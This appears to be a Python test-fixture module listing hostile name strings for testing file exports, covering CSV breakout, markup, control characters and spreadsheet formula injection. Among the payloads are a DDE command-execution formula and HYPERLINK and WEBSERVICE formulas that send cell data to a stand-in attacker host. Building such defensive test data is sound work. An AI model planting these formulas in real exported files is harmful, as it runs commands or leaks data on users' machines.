"""Names that try to be something else: formulas, cells, rows, markup, numbers. Every file that shows names must show these."""

from typing import Final

SIGNS: Final = (*"=+-@", *"＝＋－＠", *"−﹢﹣﹦﹫")
"""What a spreadsheet may take for the beginning of a formula, with the full-width and small forms."""

_PAYLOADS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"x")',
    'WEBSERVICE("https://evil.example")',
)
_BEFORE: Final = ("", " ", "'", '"', "\u00a0", "\u200b", "\ufeff", "\t", "\r", "\n", "\r\n", "\0", "\x0b", "\x1f", "\u2028")

FORMULAS: Final = (
    *(f"{sign}{payload}" for sign in SIGNS for payload in _PAYLOADS),
    *(f"{before}{sign}1+1" for before in _BEFORE[1:] for sign in "=+-@"),
)
BREAKING_OUT: Final = (
    *(f"Ann{separator}=1+1" for separator in (";", ",", "\t", "|", "\r", "\n", "\r\n", "\0")),
    'Ann","=1+1', 'Ann";=1+1', '"', '""', '"Ann"', 'A"n"n', "Ann,Lee", "Ann;Lee", "Ann\r\nLee,1,2,3", "\\", "\\\\", "Ann\\",
)  # fmt: skip
MARKUP: Final = (
    "<b>Ann</b>", "&amp;", "&#65;", "]]>", "<!--", "</t></is></c>", "{Ann}", "%s", "#1", "${Ann}", "«Ann»", "{{Ann}}",
    "_x0041_", "_x005F_x0041_", "_x000D_", "_X0041_", "_x00_", "_x1_", "_x_", "_x12345_", "__x0041__",
)  # fmt: skip
NOT_TEXT: Final = (
    "00123", "1E5", "7E1", "10-1", "1/2", "2026-11-23", "23/11/2026", "12:30", "TRUE", "5%", "£5", "1,234", "0x1F", "1e400",
    "#REF!", "#N/A", "nan", "https://evil.example", "mailto:ann@evil.example", "\\\\evil\\share", "NULL", "A1",
)  # fmt: skip
SCRIPTS: Final = (
    "שרה לוי", "مريم", "\u202eAnn", "\u2067Ann\u2069", "Ann\u200f", "李小龍", "Ñandú", "Zoë", "Zoe\u0308", "🧑\u200d🎓",
    "𝔄nn", "ﬁn",
)  # fmt: skip
CONTROLS: Final = (
    *(f"a{chr(number)}b" for number in range(0x20)), "a\x7fb", "a\x85b", "a\ufffeb", "a\uffffb", "\0", "\x1b[31mAnn",
)  # fmt: skip
BLANKS: Final = ("  Ann", "Ann  ", "A  nn", " ", "\u00a0Ann", "A\u00a0nn", "'", "''", "'Ann", "Ann'")
LONG: Final = ("x" * 32_767, "é" * 32_767, "𝔄" * 16_383 + "x", "&" * 32_767, "=" + "1" * 32_766)

HOSTILE: Final = (*FORMULAS, *BREAKING_OUT, *MARKUP, *NOT_TEXT, *SCRIPTS, *CONTROLS, *BLANKS, *LONG)
